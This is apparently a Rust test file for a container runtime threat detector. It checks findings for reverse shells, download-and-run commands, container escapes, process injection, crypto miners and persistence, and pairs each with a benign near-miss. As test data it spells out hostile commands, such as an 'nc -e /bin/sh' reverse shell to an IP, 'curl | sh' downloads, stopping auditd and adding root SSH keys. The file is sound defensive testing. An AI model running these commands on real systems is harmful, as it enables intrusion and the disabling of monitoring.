#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Behaviour rules as data: events in, findings out — one test per type,
//! each with the near-miss that must stay quiet.

mod support;

use saker_detect::FindingType as T;
use saker_detect::intel::Intel;
use saker_model::*;
use support::*;

fn run(events: &[Event]) -> Vec<saker_detect::Finding> {
    detect(Intel::default(), events)
}

#[test]
fn new_binary_executed_after_the_container_started() {
    let start = exec_event(10, "/bin/sh", &["sh", "/entry.sh"]).in_container("c1");
    let writer = file_event(Kind::FileWrite, 11, "/usr/bin/wget", "/usr/bin/payload").in_container("c1").at(5);
    let run_it = with_exec(exec_event(12, "/usr/bin/payload", &["payload"]).in_container("c1").at(10), |x| {
        x.executable_mtime = Some(t0() + chrono::Duration::seconds(5));
    });
    let f = run(&[start.clone(), writer, run_it]);
    let f = only(&f, T::NewBinaryExecuted);
    assert_eq!(ctx(f, "modifyingProcess")["executablePath"], "/usr/bin/wget");
    assert!(ctx(f, "modifiedAt").as_str().unwrap().starts_with("2026-11-28T12:00:05"));
    assert_eq!(f.resource.resource_type, "Container");
    assert_eq!(f.resource.container_details.as_ref().unwrap().id, "c1");

    // An image binary (older than the container) is not new; neither is a
    // host binary.
    let old = with_exec(exec_event(13, "/bin/ls", &["ls"]).in_container("c1").at(11), |x| {
        x.executable_mtime = Some(t0() - chrono::Duration::days(30));
    });
    let host = with_exec(exec_event(14, "/tmp/x", &["x"]).at(12), |x| x.executable_mtime = Some(t0()));
    assert!(run(&[start, old, host]).is_empty());
}

/// `touch -d 2001-01-01` backdates the mtime, and in doing so sets the
/// ctime to now: the ctime tells the binary is new.
#[test]
fn new_binary_with_a_backdated_mtime_but_a_new_ctime() {
    let start = exec_event(10, "/bin/sh", &["sh", "/entry.sh"]).in_container("c1");
    let backdated = t0() - chrono::Duration::days(9000);
    let run_it = with_exec(exec_event(12, "/tmp/x", &["x"]).in_container("c1").at(10), |x| {
        x.executable_mtime = Some(backdated);
        x.executable_ctime = Some(t0() + chrono::Duration::seconds(5));
    });
    let f = run(&[start.clone(), run_it]);
    let f = only(&f, T::NewBinaryExecuted);
    assert_eq!(ctx(f, "executablePath"), "/tmp/x");
    // No write was seen: the last change the file shows, its ctime.
    assert!(ctx(f, "modifiedAt").as_str().unwrap().starts_with("2026-11-28T12:00:05"), "{f:#?}");

    // Both older than the container: an image binary.
    let image = with_exec(exec_event(13, "/bin/ls", &["ls"]).in_container("c1").at(11), |x| {
        x.executable_mtime = Some(backdated);
        x.executable_ctime = Some(t0() - chrono::Duration::days(30));
    });
    assert!(run(&[start, image]).is_empty());
}

#[test]
fn new_binary_from_the_overlay_upper_layer() {
    let ev = with_exec(exec_event(12, "/tmp/dropper", &["dropper"]).in_container("c2"), |x| x.upper_layer = true);
    only(&run(&[ev]), T::NewBinaryExecuted);
}

#[test]
fn new_library_loaded() {
    let start = exec_event(10, "/app/server", &["server"]).in_container("c1");
    let lib = LibraryInfo {
        path: "/tmp/libevil.so".into(),
        prot: 5,
        mtime: Some(t0() + chrono::Duration::seconds(3)),
        ..Default::default()
    };
    let load =
        event(Kind::LibraryLoad, proc(10, "/app/server", &["server"]), Payload::Library(lib)).in_container("c1").at(4);
    let f = run(&[start.clone(), load]);
    assert_eq!(ctx(only(&f, T::NewLibraryLoaded), "libraryPath"), "/tmp/libevil.so");

    let old = LibraryInfo {
        path: "/lib/libc.so.6".into(),
        mtime: Some(t0() - chrono::Duration::days(9)),
        ..Default::default()
    };
    let load = event(Kind::LibraryLoad, proc(10, "/app/server", &["server"]), Payload::Library(old)).in_container("c1");
    assert!(run(&[start, load]).is_empty());
}

#[test]
fn new_library_with_a_backdated_mtime_but_a_new_ctime() {
    let start = exec_event(10, "/app/server", &["server"]).in_container("c1");
    let lib = |ctime: chrono::DateTime<chrono::Utc>| LibraryInfo {
        path: "/tmp/libevil.so".into(),
        prot: 5,
        mtime: Some(t0() - chrono::Duration::days(9000)),
        ctime: Some(ctime),
        ..Default::default()
    };
    let load = |l: LibraryInfo| {
        event(Kind::LibraryLoad, proc(10, "/app/server", &["server"]), Payload::Library(l)).in_container("c1").at(4)
    };
    let f = run(&[start.clone(), load(lib(t0() + chrono::Duration::seconds(3)))]);
    let f = only(&f, T::NewLibraryLoaded);
    assert!(ctx(f, "modifiedAt").as_str().unwrap().starts_with("2026-11-28T12:00:03"), "{f:#?}");
    assert!(run(&[start, load(lib(t0() - chrono::Duration::days(9)))]).is_empty());
}

#[test]
fn docker_socket_accessed_from_a_container() {
    let ev = unix_connect(20, "/usr/bin/curl", "/var/run/docker.sock").in_container("c1");
    assert_eq!(ctx(only(&run(&[ev]), T::DockerSocketAccessed), "socketPath"), "/var/run/docker.sock");
    // The host's own docker CLI is the socket's purpose.
    assert!(run(&[unix_connect(20, "/usr/bin/docker", "/var/run/docker.sock")]).is_empty());
}

#[test]
fn runc_overwritten_from_a_container() {
    let ev = file_event(Kind::FileWrite, 21, "/bin/busybox", "/usr/sbin/runc").in_container("c1");
    assert_eq!(ctx(only(&run(&[ev]), T::RuncContainerEscape), "runcBinaryPath"), "/usr/sbin/runc");
}

/// CVE-2024-21626: a container process whose working directory is a host
/// directory (the kernel saw it outside the process's root), or that was
/// started in a `/proc/self/fd/N` directory.
#[test]
fn runc_container_escape_by_working_directory() {
    let ls = |pid: u32, cwd: &str, outside: bool| {
        with_exec(exec_event(pid, "/bin/ls", &["ls", "../../.."]), |x| {
            x.cwd = Some(cwd.to_owned());
            x.cwd_outside_root = outside;
        })
    };
    let f = run(&[ls(30, "/sys/fs/cgroup", true).in_container("c1")]);
    let f = only(&f, T::RuncContainerEscape);
    assert_eq!(ctx(f, "workingDirectory"), "/sys/fs/cgroup");
    assert_eq!(ctx(f, "commandLineExample"), "ls ../../..");
    assert_eq!(f.resource.container_details.as_ref().unwrap().id, "c1");

    for cwd in ["/proc/self/fd/7", "/proc/thread-self/fd/7", "/proc/1/fd/8/..", "/proc/self/fd/7/sub"] {
        let f = run(&[ls(31, cwd, false).in_container("c1")]);
        assert_eq!(ctx(only(&f, T::RuncContainerEscape), "workingDirectory"), cwd);
    }

    // A working directory inside the container, or /proc paths that are not
    // through an fd; and a host process (no container) even outside its root
    // (a chroot it escaped is not a container escape).
    for cwd in ["/app", "/proc/self", "/proc/1/fdinfo/3", "/proc/x1/fd/3", "/proc/self/fd"] {
        assert!(run(&[ls(32, cwd, false).in_container("c1")]).is_empty(), "{cwd}");
    }
    assert!(run(&[ls(33, "/sys/fs/cgroup", true)]).is_empty());
    assert!(run(&[ls(34, "/proc/self/fd/7", false)]).is_empty());
}

#[test]
fn cgroup_release_agent_written() {
    let ev =
        file_event(Kind::FileWrite, 22, "/bin/sh", "/sys/fs/cgroup/rdma/release_agent").in_container("c1").result(-13);
    only(&run(&[ev]), T::CGroupsReleaseAgentModified);
}

#[test]
fn process_injection_three_ways() {
    let mem = |method: &str| {
        let m = MemWriteInfo { method: method.into(), target_pid: 99, length: 16, path: None };
        event(Kind::MemWrite, proc(23, "/tmp/inject", &["inject"]), Payload::MemWrite(m))
    };
    only(&run(&[mem("proc_mem")]), T::ProcessInjectionProc);
    only(&run(&[mem("process_vm_writev")]), T::ProcessInjectionVirtualMemoryWrite);
    let poke =
        PtraceInfo { request: 5, request_name: Some("PTRACE_POKEDATA".into()), target_pid: 99, addr: 0, data: 0 };
    let ev = event(Kind::Ptrace, proc(23, "/tmp/inject", &["inject"]), Payload::Ptrace(poke));
    only(&run(&[ev]), T::ProcessInjectionPtrace);
    // Attaching (reading) is not injection; failing to write is not either.
    let attach = PtraceInfo { request: 16, target_pid: 99, ..Default::default() };
    assert!(run(&[event(Kind::Ptrace, proc(23, "/usr/bin/gdb", &["gdb"]), Payload::Ptrace(attach))]).is_empty());
    assert!(run(&[mem("process_vm_writev").result(-1)]).is_empty());
}

#[test]
fn ptrace_anti_debugging_outside_a_debugger() {
    let me = PtraceInfo { request: 0, request_name: Some("PTRACE_TRACEME".into()), ..Default::default() };
    let ev = event(Kind::Ptrace, proc(24, "/tmp/packed", &["packed"]), Payload::Ptrace(me.clone())).parent(proc(
        1,
        "/bin/bash",
        &["bash"],
    ));
    only(&run(&[ev]), T::PtraceAntiDebugging);
    let under_gdb = event(Kind::Ptrace, proc(24, "/tmp/prog", &["prog"]), Payload::Ptrace(me)).parent(proc(
        2,
        "/usr/bin/gdb",
        &["gdb"],
    ));
    assert!(run(&[under_gdb]).is_empty());
}

#[test]
fn reverse_shell_by_socket_stdio() {
    let connect = net_event(
        Kind::NetConnect,
        30,
        "/usr/bin/nc",
        &["nc", "-e", "/bin/sh", "203.0.113.9", "4444"],
        "203.0.113.9",
        4444,
    );
    let shell = with_socket_stdio(exec_event(30, "/bin/sh", &["/bin/sh"]), "203.0.113.9", 4444);
    let f = run(&[connect, shell]);
    let f = only(&f, T::ReverseShell);
    assert_eq!(f.service.action.as_ref().unwrap()["networkConnectionAction"]["remotePortDetails"]["port"], 4444);
}

#[test]
fn reverse_shell_by_bash_dev_tcp() {
    let ev = net_event(Kind::NetConnect, 31, "/bin/bash", &["bash", "-i"], "127.0.0.1", 4444);
    only(&run(&[ev]), T::ReverseShell);
    // A script fetching something over /dev/tcp is not a prompt.
    let ev =
        net_event(Kind::NetConnect, 31, "/bin/bash", &["bash", "-c", "cat </dev/tcp/127.0.0.1/80"], "127.0.0.1", 80);
    assert!(run(&[ev]).is_empty());
}

#[test]
fn fileless_execution() {
    let memfd = with_exec(exec_event(32, "/memfd:payload (deleted)", &["x"]), |x| x.memfd = true);
    only(&run(&[memfd]), T::FilelessExecution);
    let deleted = with_exec(exec_event(33, "/tmp/gone", &["gone"]), |x| x.deleted = true);
    only(&run(&[deleted]), T::FilelessExecution);
    // runc's sealed copy of itself on every container start.
    let runc =
        with_exec(exec_event(34, "/memfd:runc_cloned:/proc/self/exe (deleted)", &["runc", "init"]), |x| x.memfd = true);
    assert!(run(&[runc]).is_empty());
    // A JIT runtime mapping its code from a memfd.
    let lib = LibraryInfo { path: "/memfd:jit-code (deleted)".into(), prot: 5, ..Default::default() };
    assert!(
        run(&[event(Kind::LibraryLoad, proc(35, "/usr/bin/node", &["node"]), Payload::Library(lib.clone()))])
            .is_empty()
    );
    only(
        &run(&[event(Kind::LibraryLoad, proc(36, "/tmp/a.out", &["a.out"]), Payload::Library(lib))]),
        T::FilelessExecution,
    );
}

#[test]
fn crypto_miner_by_name_or_pool_url() {
    only(&run(&[exec_event(40, "/tmp/xmrig", &["xmrig"])]), T::CryptoMinerExecuted);
    let ev = exec_event(41, "/tmp/k", &["k", "-o", "stratum+tcp://pool.example:3333"]);
    assert_eq!(
        ctx(only(&run(&[ev]), T::CryptoMinerExecuted), "commandLineExample"),
        "k -o stratum+tcp://pool.example:3333"
    );
}

#[test]
fn container_mounts_host_disk() {
    let m = MountInfo {
        source: Some("/dev/sda1".into()),
        target: Some("/mnt/host".into()),
        fs_type: Some("ext4".into()),
        flags: 0,
    };
    let ev =
        event(Kind::Mount, proc(42, "/bin/mount", &["mount"]).clone(), Payload::Mount(m.clone())).in_container("c1");
    let f = run(&[ev]);
    assert_eq!(ctx(only(&f, T::ContainerMountsHostDirectory), "mountSource"), "/dev/sda1");
    // The host mounting its own disks, and a container mounting tmpfs, are not.
    assert!(run(&[event(Kind::Mount, proc(42, "/bin/mount", &["mount"]), Payload::Mount(m))]).is_empty());
    let tmpfs = MountInfo {
        source: Some("tmpfs".into()),
        target: Some("/tmp".into()),
        fs_type: Some("tmpfs".into()),
        flags: 0,
    };
    assert!(
        run(&[event(Kind::Mount, proc(42, "/bin/mount", &["mount"]), Payload::Mount(tmpfs)).in_container("c1")])
            .is_empty()
    );
}

#[test]
fn userfaultfd_usage() {
    let ev = event(
        Kind::Userfaultfd,
        proc(43, "/tmp/exploit", &["exploit"]),
        Payload::Userfaultfd(UserfaultfdInfo { flags: 0 }),
    );
    only(&run(&[ev]), T::UserfaultfdUsage);
    let qemu = event(
        Kind::Userfaultfd,
        proc(43, "/usr/bin/qemu-system-x86_64", &["qemu"]),
        Payload::Userfaultfd(UserfaultfdInfo { flags: 0 }),
    );
    assert!(run(&[qemu]).is_empty());
}

#[test]
fn suspicious_tools_offensive_high_dual_use_low_in_context() {
    let f = run(&[exec_event(44, "/usr/bin/sqlmap", &["sqlmap", "-u", "x"])]);
    let f = only(&f, T::SuspiciousTool);
    assert_eq!((f.severity, ctx(f, "toolName").as_str()), (8.0, Some("sqlmap")));
    // nmap from an admin's shell on the host: daily work.
    let admin = exec_event(45, "/usr/bin/nmap", &["nmap", "10.0.0.1"]).parent(proc(2, "/bin/bash", &["bash"]));
    assert!(run(&[admin]).is_empty());
    // nmap inside a container: Low.
    let f = run(&[exec_event(45, "/usr/bin/nmap", &["nmap", "10.0.0.0/24"]).in_container("c1")]);
    assert_eq!(only(&f, T::SuspiciousTool).severity, 2.0);
}

#[test]
fn execution_suspicious_command_download_and_run() {
    let ev = exec_event(46, "/bin/sh", &["sh", "-c", "curl -s http://203.0.113.5/x.sh | sh"]).in_container("c1");
    only(&run(&[ev]), T::SuspiciousCommandExecution);
    let ev = exec_event(46, "/bin/sh", &["sh", "-c", "wget -O /tmp/.x http://h/x && chmod +x /tmp/.x && /tmp/.x"])
        .in_container("c1");
    assert_eq!(ctx(only(&run(&[ev]), T::SuspiciousCommandExecution), "threatFilePath"), "/tmp/.x");
}

#[test]
fn defense_evasion_commands_and_ld_preload() {
    let f = run(&[exec_event(47, "/usr/sbin/iptables", &["iptables", "-F"])]);
    only(&f, T::SuspiciousCommandDefenseEvasion);
    let f = run(&[exec_event(47, "/bin/systemctl", &["systemctl", "stop", "auditd.service"])]);
    assert_eq!(ctx(only(&f, T::SuspiciousCommandDefenseEvasion), "serviceName"), "auditd");
    let ev = with_exec(exec_event(48, "/usr/sbin/sshd", &["sshd"]), |x| x.ld_preload = Some("/tmp/.hook.so".into()));
    assert_eq!(ctx(only(&run(&[ev]), T::SuspiciousCommandDefenseEvasion), "ldPreloadValue"), "/tmp/.hook.so");
    let ok = with_exec(exec_event(48, "/usr/bin/ls", &["ls"]), |x| {
        x.ld_preload = Some("/usr/lib/x86_64-linux-gnu/libfakeroot/libfakeroot-sysv.so".into())
    });
    assert!(run(&[ok]).is_empty());
}

#[test]
fn malicious_and_custom_hash_lists() {
    use saker_detect::intel::{ThreatCategory, ThreatList};
    let sha = "a".repeat(64);
    let mut bad = ThreatList::new("feed", ThreatCategory::MaliciousFile);
    bad.hashes.push(sha.clone());
    let mut mine = ThreatList::new("ours", ThreatCategory::CustomMaliciousFile);
    mine.hashes.push("b".repeat(64));
    let intel = || Intel::build(&[bad.clone(), mine.clone()], &[]);
    let mut ev = exec_event(49, "/tmp/evil", &["evil"]);
    ev.process_mut().unwrap().executable_sha256 = Some(sha.as_str().into());
    let f = detect(intel(), &[ev]);
    assert_eq!(ctx(only(&f, T::MaliciousFileExecuted), "threatFilePath"), "/tmp/evil");
    let mut ev = exec_event(49, "/tmp/mine", &["mine"]);
    ev.process_mut().unwrap().executable_sha256 = Some("B".repeat(64).into());
    only(&detect(intel(), &[ev]), T::MaliciousFileExecutedCustom);

    // The hash arrives after the exec event (first exec of a new binary).
    let mut d = saker_detect::Detector::new(Default::default(), saker_detect::IntelHandle::new(intel()));
    let mut out = Vec::new();
    d.process(&exec_event(50, "/tmp/late", &["late"]), &mut out);
    assert!(out.is_empty());
    d.on_hash(50, &sha, &mut out);
    only(&out, T::MaliciousFileExecuted);
}

#[test]
fn shell_from_a_network_service() {
    let listen = net_event(Kind::NetListen, 60, "/usr/sbin/nginx", &["nginx"], "0.0.0.0", 0);
    let shell = exec_event(61, "/bin/bash", &["bash", "-i"]).parent(proc(60, "/usr/sbin/nginx", &["nginx"]));
    only(&run(&[listen.clone(), shell]), T::SuspiciousShellCreated);
    // A CGI script run by the service is not a prompt; sshd's shells are its job.
    let cgi =
        exec_event(62, "/bin/sh", &["sh", "-c", "/srv/cgi/hello"]).parent(proc(60, "/usr/sbin/nginx", &["nginx"]));
    assert!(run(&[listen, cgi]).is_empty());
    let sshd_listen = net_event(Kind::NetListen, 63, "/usr/sbin/sshd", &["sshd"], "0.0.0.0", 0);
    let login = exec_event(64, "/bin/bash", &["-bash"]).parent(proc(63, "/usr/sbin/sshd", &["sshd"]));
    assert!(run(&[sshd_listen, login]).is_empty());
}

#[test]
fn elevation_to_root_through_an_unusual_setuid_binary() {
    let setuid = |exe: &str, parent: &str| {
        with_exec(exec_event(70, exe, &[exe]).root(), |x| {
            x.setuid = true;
            x.previous = Some(Creds { uid: 1000, euid: 1000, gid: 1000, egid: 1000 });
        })
        .parent(proc(69, parent, &[parent]))
    };
    only(&run(&[setuid("/tmp/rootme", "/bin/bash")]), T::ElevationToRoot);
    assert!(run(&[setuid("/usr/bin/sudo", "/bin/bash")]).is_empty());
    assert!(run(&[setuid("/usr/bin/ping", "/usr/bin/python3")]).is_empty());
    only(&run(&[setuid("/usr/bin/sudo", "/usr/sbin/nginx")]), T::ElevationToRoot);
}

#[test]
fn discovery_persistence_privilege_commands() {
    let f = run(&[exec_event(80, "/usr/bin/find", &["find", "/", "-perm", "-4000"])]);
    only(&f, T::SuspiciousCommandDiscovery);
    let f = run(&[exec_event(81, "/bin/sh", &["sh", "-c", "echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys"])
        .in_container("c1")]);
    only(&f, T::SuspiciousCommandPersistence);
    let f = run(&[exec_event(82, "/bin/chmod", &["chmod", "u+s", "/tmp/sh"]).in_container("c1")]);
    only(&f, T::SuspiciousCommandPrivilegeEscalation);
    // An admin's crontab -e and chmod on the host are not findings.
    let admin =
        |argv: &[&str]| exec_event(83, &format!("/usr/bin/{}", argv[0]), argv).parent(proc(2, "/bin/bash", &["bash"]));
    assert!(run(&[admin(&["crontab", "-e"]), admin(&["chmod", "4755", "/usr/local/bin/tool"])]).is_empty());
}

#[test]
fn kernel_module_loaded_unless_the_host_does_its_job() {
    let m = ModuleInfo {
        method: "finit_module".into(),
        path: Some("/tmp/rootkit.ko".into()),
        sha256: Some("ab".repeat(32)),
        ..Default::default()
    };
    let ev = event(Kind::ModuleLoad, proc(90, "/tmp/loader", &["loader"]), Payload::Module(m.clone())).result(-38);
    let f = run(&[ev]);
    let f = only(&f, T::KernelModuleLoaded);
    assert_eq!(
        (ctx(f, "moduleName").as_str(), ctx(f, "moduleFilePath").as_str()),
        (Some("rootkit"), Some("/tmp/rootkit.ko"))
    );
    assert_eq!(ctx(f, "moduleSha256"), &"ab".repeat(32));
    let udev =
        event(Kind::ModuleLoad, proc(91, "/usr/lib/systemd/systemd-udevd", &["systemd-udevd"]), Payload::Module(m))
            .parent(proc(1, "/usr/lib/systemd/systemd", &["systemd"]));
    assert!(run(&[udev]).is_empty());
}

#[test]
fn sensitive_files_by_family_and_expected_writers() {
    let f = run(&[file_event(Kind::FileWrite, 100, "/usr/bin/vi", "/etc/sudoers")]);
    assert_eq!(ctx(only(&f, T::SensitiveFileModifiedPrivilegeEscalation), "fileOperation"), "Write");
    let f = run(&[file_event(Kind::FileWrite, 100, "/bin/sh", "/etc/cron.d/backdoor")]);
    only(&f, T::SensitiveFileModifiedPersistence);
    let f = run(&[file_event(Kind::FileWrite, 100, "/bin/sh", "/etc/ld.so.preload")]);
    only(&f, T::SensitiveFileModifiedDefenseEvasion);
    let mut rename = file_event(Kind::FileRename, 100, "/bin/mv", "/tmp/x");
    if let Payload::File(fi) = &mut rename.payload {
        fi.new_path = Some("/root/.ssh/authorized_keys".into());
    }
    let f = run(&[rename]);
    let f = only(&f, T::SensitiveFileModifiedPersistence);
    assert_eq!(
        (ctx(f, "fileOperation").as_str(), ctx(f, "relatedFilePaths")[0].as_str()),
        (Some("Rename"), Some("/tmp/x"))
    );
    // Package managers and account tools doing their job.
    let apt =
        file_event(Kind::FileWrite, 101, "/usr/bin/perl", "/etc/passwd").parent(proc(3, "/usr/bin/dpkg", &["dpkg"]));
    let useradd = file_event(Kind::FileWrite, 102, "/usr/sbin/useradd", "/etc/shadow");
    assert!(run(&[apt, useradd]).is_empty());
}

#[test]
fn repeats_aggregate_into_one_finding() {
    let ev = |s| exec_event(40, "/tmp/xmrig", &["xmrig"]).at(s);
    let f = run(&[ev(0), ev(1), ev(2)]);
    assert_eq!(f.len(), 2, "the new finding, then one flushed update: {f:#?}");
    assert_eq!(f[0].id, f[1].id);
    assert_eq!((f[0].service.count, f[1].service.count), (1, 3));
    assert_eq!(f[1].service.event_last_seen, t0() + chrono::Duration::seconds(2));
    assert_eq!(f[1].service.event_ids.len(), 3);
    // Another container is another finding.
    let f = run(&[ev(0).in_container("a"), ev(0).in_container("b")]);
    assert_ne!(f[0].id, f[1].id);
}

#[test]
fn ecs_resource_shape() {
    let ev = exec_event(40, "/tmp/xmrig", &["xmrig"])
        .in_container("c9")
        .in_ecs_task("prod", "arn:aws:ecs:eu-west-1:1:task/prod/abc");
    let f = run(&[ev]);
    let r = &f[0].resource;
    assert_eq!(r.resource_type, "ECSCluster");
    let ecs = r.ecs_cluster_details.as_ref().unwrap();
    assert_eq!(ecs.name.as_deref(), Some("prod"));
    assert_eq!(ecs.task_details.containers[0].id, "c9");
    assert_eq!(ecs.task_details.definition_arn.as_deref(), Some("web:3"));
    let json = serde_json::to_value(&f[0]).unwrap();
    assert_eq!(json["type"], "Impact:Runtime/CryptoMinerExecuted");
    assert_eq!(json["service"]["featureName"], "RuntimeMonitoring");
    assert_eq!(json["service"]["runtimeDetails"]["process"]["executablePath"], "/tmp/xmrig");
    assert_eq!(json["severityLabel"], "High");
    // Account and region come from the task's ARN.
    assert_eq!((json["accountId"].as_str(), json["region"].as_str()), (Some("1"), Some("eu-west-1")));
}

#[test]
fn a_hash_that_arrives_late_is_in_the_finding_process() {
    use saker_detect::intel::{ThreatCategory, ThreatList};
    let sha = "c".repeat(64);
    let mut bad = ThreatList::new("feed", ThreatCategory::MaliciousFile);
    bad.hashes.push(sha.clone());
    let mut d =
        saker_detect::Detector::new(Default::default(), saker_detect::IntelHandle::new(Intel::build(&[bad], &[])));
    let mut out = Vec::new();
    // First exec of a new binary: the event goes out before its hash is known.
    d.process(&exec_event(51, "/tmp/first-seen", &["first-seen"]), &mut out);
    assert!(out.is_empty());
    d.on_hash(51, &sha.to_uppercase(), &mut out);
    let f = only(&out, T::MaliciousFileExecuted);
    assert_eq!(f.service.runtime_details.process.executable_sha256.as_deref(), Some(&*sha));
    assert_eq!(ctx(f, "threatFileSha256"), sha.as_str());
}

#[test]
fn busybox_applets_are_judged_as_the_program_they_run() {
    // Alpine's nc is busybox run as `nc`: a dual-use tool in a container.
    let nc = exec_event(110, "/bin/busybox", &["/bin/nc", "-w", "1", "10.0.0.1", "22"]).in_container("c1");
    let f = run(&[nc]);
    let f = only(&f, T::SuspiciousTool);
    assert_eq!((f.severity, ctx(f, "toolName").as_str()), (2.0, Some("nc")));
    // `busybox APPLET ...` names the applet second.
    let ev = exec_event(111, "/bin/busybox", &["busybox", "crontab", "-r"]).in_container("c1");
    only(&run(&[ev]), T::SuspiciousCommandDefenseEvasion);
    // busybox's crontab writing the table it installs is crontab doing its
    // job (the install itself is the Persistence command finding); a shell
    // writing there is not.
    let table = |argv0: &str| {
        let mut ev = file_event(Kind::FileWrite, 112, "/bin/busybox", "/var/spool/cron/crontabs/root.new");
        ev.process_mut().unwrap().argv = vec![argv0.to_owned(), "/tmp/job".to_owned()].into();
        ev.in_container("c1")
    };
    assert!(run(&[table("/bin/crontab")]).is_empty());
    only(&run(&[table("/bin/sh")]), T::SensitiveFileModifiedPersistence);
}
